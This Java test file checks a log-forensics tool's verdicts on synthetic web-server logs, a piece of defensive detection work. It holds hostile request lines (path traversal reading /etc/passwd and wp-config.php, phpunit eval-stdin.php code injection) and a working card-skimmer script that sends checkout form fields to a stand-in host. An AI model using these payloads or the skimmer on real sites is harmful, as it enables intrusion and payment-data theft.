package org.evenkeel.forensics;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.evenkeel.forensics.investigation.EntryPoint;
import org.evenkeel.forensics.investigation.Grade;
import org.evenkeel.forensics.investigation.Investigation;
import org.evenkeel.forensics.investigation.Verdict;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Programs that strangers ask for something: a hole through which they look, or what they left
/// after they had come through one.
class HolesAndShellsTest {
  private static final String MAILER = "/wp-content/plugins/mail-masta/inc/campaign/count.php?pl=";
  private static final String RUNNER = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php";

  @TempDir private Path folder;
  private WrittenLog log;

  @BeforeEach
  void opens() {
    log = new WrittenLog(folder);
    log.customers(2, "/product/brass-lamp/", 46_000);
  }

  @Test
  void aPageThatHandsOutFilesIsAHoleAndNoShell() throws Exception {
    log.at(1, 1, 1).by("192.0.2.12", WrittenLog.CUSTOMER);
    log.then(0, "GET " + MAILER + "/etc/passwd", 200, 1_920);
    log.then(9, "GET " + MAILER + "../../../../../wp-config.php", 200, 3_311);
    log.then(9, "GET " + MAILER + "/var/log/nginx/access.log", 200, 91_000);

    Investigation found = log.investigated();
    assertThat(found.verdict()).isEqualTo(Verdict.PROBABLE);
    assertThat(found.answer().entryPoint().technique().name())
        .isIn("path-traversal", "file-inclusion");
    assertThat(found.harm().exposure()).extracting("category").contains("secrets");
  }

  @Test
  void aPageThatRepeatsWhatItIsAskedHandsOutNothing() throws Exception {
    log.at(1, 1, 1).by("192.0.2.12", WrittenLog.CUSTOMER);
    log.then(0, "GET /?s=/etc/passwd", 200, 41_011);
    log.then(9, "GET /?s=../../../../../wp-config.php", 200, 41_028);
    log.then(9, "GET /?s=/var/log/nginx/access.log", 200, 41_025);

    assertThat(log.investigated().verdict()).isEqualTo(Verdict.ATTEMPTS_ONLY);
  }

  @Test
  void aTestToolThatRunsWhatItIsSentIsTheWayIn() throws Exception {
    log.at(1, 0, 30).by("192.0.2.70", WrittenLog.TOOL);
    log.then(0, "POST /modules/gamification" + RUNNER, 404, 3_000);
    log.then(1, "POST /modules/autoupgrade" + RUNNER, 200, 32);
    log.then(6, "POST /modules/autoupgrade" + RUNNER, 200, 1_931);
    for (int use = 0; use < 6; use++) {
      log.then(20, "POST /modules/autoupgrade/zed.php", 200, 100 + use * 331);
    }

    Investigation found = log.investigated();
    EntryPoint way = found.answer().entryPoint();
    assertThat(way.technique().name()).isEqualTo("code-injection");
    assertThat(way.technique().path()).endsWith("eval-stdin.php");
    assertThat(found.answer().vulnerabilities().getFirst().id()).isEqualTo("CVE-2017-9841");
  }

  @Test
  void aProgramThatMonitorsAskWasTakenOverWhenItTalksToAStranger() throws Exception {
    monitored();
    log.at(1, 3, 1).by("192.0.2.71", WrittenLog.CUSTOMER);
    for (int use = 0; use < 8; use++) {
      log.then(25, "POST /health_check.php", 200, 12 + use * 611);
    }

    Investigation found = log.investigated();
    assertThat(found.verdict()).isEqualTo(Verdict.PROBABLE);
    assertThat(found.scene().actors().getFirst().addresses()).containsExactly("192.0.2.71");
  }

  @Test
  void aProgramThatMonitorsAskAccusesNobody() throws Exception {
    monitored();

    assertThat(log.investigated().verdict()).isEqualTo(Verdict.NO_EVIDENCE);
  }

  @Test
  void stylesThatAProgramAmongPicturesMakesAccuseNobody() throws Exception {
    for (int visit = 0; visit < 40; visit++) {
      log.at(visit / 24, visit % 24, 9).by("198.51.100." + (visit + 1), WrittenLog.CUSTOMER);
      log.from("https://shop.example/shop/");
      log.then(0, "GET /wp-content/uploads/styles/dyn.php?ver=7.1", 200, 41_220);
    }

    Investigation found = log.investigated();
    assertThat(found.verdict()).isLessThan(Verdict.POSSIBLE);
    assertThat(found.scene().actors())
        .allSatisfy(actor -> assertThat(actor.grade()).isEqualTo(Grade.E0));
  }

  @Test
  void noticesOfAPaymentProviderAreNoShell() throws Exception {
    for (int paid = 0; paid < 20; paid++) {
      log.at(paid / 12, 8 + paid % 12, 44).by("203.0.113.63", "Stripe/1.0");
      log.then(0, "POST /modules/stripe_official/webhook_handler.php", 200, 2 + paid % 5 * 11);
    }

    assertThat(log.investigated().verdict()).isEqualTo(Verdict.NO_EVIDENCE);
  }

  @Test
  void whereASkimmerLiesNobodyIsComforted(@TempDir Path web) throws Exception {
    log.at(1, 1, 1).by("192.0.2.12", WrittenLog.TOOL).then(0, "GET /.env", 404, 300);
    Files.writeString(
        web.resolve("checkout.js"),
        """
        if (location.href.indexOf('checkout') > -1) {
          document.addEventListener('change', function () {
            var d = {};
            document.querySelectorAll('input').forEach(function (e) { d[e.name] = e.value; });
            new Image().src = 'https://jq-stat.example/p.gif?d=' + btoa(JSON.stringify(d));
          });
        }
        """);

    Investigation found = log.investigated(new StoreCopy(List.of(web), List.of(), List.of()));
    assertThat(found.verdict()).isGreaterThanOrEqualTo(Verdict.PROBABLE);
    assertThat(found.answer().story())
        .anySatisfy(said -> assertThat(said.text()).contains("checkout.js"))
        .noneSatisfy(said -> assertThat(said.text()).contains("expose nobody"));
  }

  private void monitored() {
    for (int time = 0; time < 96; time++) {
      log.at(time / 48, time % 48 / 2, 30 * (time % 2)).by("203.0.113.99", "Uptime/1.0");
      log.then(0, "GET /health_check.php", 200, 2);
    }
  }
}
